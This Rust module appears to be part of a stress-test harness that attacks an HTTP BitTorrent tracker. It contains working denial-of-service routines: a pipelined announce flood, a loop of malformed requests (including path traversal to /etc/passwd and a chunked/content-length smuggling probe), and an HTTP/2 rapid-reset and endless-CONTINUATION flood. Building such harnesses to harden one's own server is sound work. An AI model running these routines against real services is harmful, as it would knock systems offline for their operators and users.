//! HTTP/1.1 and HTTP/2.

use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::{sleep, timeout};

use super::Attacker;
use crate::socket::connect;

const PAUSE: Duration = Duration::from_millis(20);

/// Pipelined announces, a new swarm each, replies read away.
pub(super) async fn flood(attacker: Attacker) {
    let mut number = 0_u64;
    loop {
        let Ok(stream) = connect(attacker.target.clear, attacker.from).await else {
            sleep(PAUSE).await;
            continue;
        };
        let (mut reader, mut writer) = stream.into_split();
        let reading = tokio::spawn(async move {
            let mut buffer = vec![0; 65_536];
            while reader.read(&mut buffer).await.is_ok_and(|length| length > 0) {}
        });
        for _ in 0..500 {
            let mut batch = String::new();
            for _ in 0..16 {
                number += 1;
                let port = number % 60_000 + 1;
                batch += &format!(
                    "GET /announce?info_hash={number:020}&peer_id={number:020}&port={port}&left=1 HTTP/1.1\r\nhost: x\r\n\r\n"
                );
            }
            if writer.write_all(batch.as_bytes()).await.is_err() {
                break;
            }
            attacker.did_it().await;
            tokio::task::yield_now().await;
        }
        reading.abort();
    }
}

/// Requests that are hardly such.
pub(super) async fn odd(attacker: Attacker) {
    let long = "x".repeat(50_000);
    let requests = [
        format!("GET /{long} HTTP/1.1\r\nhost: x\r\n\r\n"),
        format!("GET /announce?info_hash={} HTTP/1.1\r\nhost: x\r\n\r\n", "%00".repeat(9_000)),
        format!("GET / HTTP/1.1\r\nhost: x\r\nx: {long}\r\n\r\n"),
        format!("GET / HTTP/1.1\r\nhost: x\r\n{}\r\n", "a: b\r\n".repeat(5_000)),
        "GET /announce?%%%%&&&&====&info_hash&peer_id=&port=99999999999999 HTTP/1.1\r\nhost: x\r\n\r\n".to_owned(),
        "GET /scrape HTTP/1.1\r\nhost: x\r\n\r\n".repeat(50),
        "GET /../../../../etc/passwd HTTP/1.1\r\nhost: x\r\n\r\n".to_owned(),
        "GET http:// HTTP/1.1\r\n\r\n".to_owned(),
        "CONNECT x:1 HTTP/1.1\r\nhost: x\r\n\r\n".to_owned(),
        "POST / HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\ncontent-length: 5\r\n\r\nffffffffffffffff\r\n".to_owned(),
        "GET / HTTP/9.9\r\n\r\n".to_owned(),
        "\r\n".repeat(20_000),
        "GET /announce HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 99\r\nsec-websocket-key: x\r\n\r\n".to_owned(),
    ];
    loop {
        for request in &requests {
            if let Ok(mut stream) = connect(attacker.target.clear, attacker.from).await {
                let _ = timeout(PAUSE, stream.write_all(request.as_bytes())).await;
                let _ = timeout(PAUSE, stream.read_to_end(&mut Vec::new())).await;
                attacker.did_it().await;
            }
        }
    }
}

/// Opens streams and resets each at once, so that the server begins what nobody waits for.
pub(super) async fn reset(attacker: Attacker) {
    let frame = |kind: u8, flags: u8, stream: u32, payload: &[u8]| {
        let length = (payload.len() as u32).to_be_bytes();
        [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
    };
    // GET http://x/ in HPACK's static table; end of headers and of the stream.
    let get = [0x82, 0x86, 0x84, 0x41, 0x01, b'x'];
    loop {
        let Ok(mut stream) = connect(attacker.target.clear, attacker.from).await else {
            sleep(PAUSE).await;
            continue;
        };
        let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        bytes.extend(frame(4, 0, 0, &[]));
        for number in 0..500 {
            let id = 2 * number + 1;
            bytes.extend(frame(1, 0x05, id, &get));
            bytes.extend(frame(3, 0, id, &[0, 0, 0, 8]));
        }
        // And frames without end: settings, pings, headers that never end.
        for _ in 0..500 {
            bytes.extend(frame(4, 0, 0, &[0, 3, 0, 0, 0, 100]));
            bytes.extend(frame(6, 0, 0, &[0; 8]));
        }
        bytes.extend(frame(1, 0, 1_001, &get));
        for _ in 0..200 {
            bytes.extend(frame(9, 0, 1_001, &[0; 0]));
        }
        let _ = timeout(Duration::from_millis(200), stream.write_all(&bytes)).await;
        let _ = timeout(PAUSE, stream.read_to_end(&mut Vec::new())).await;
        attacker.did_it().await;
    }
}
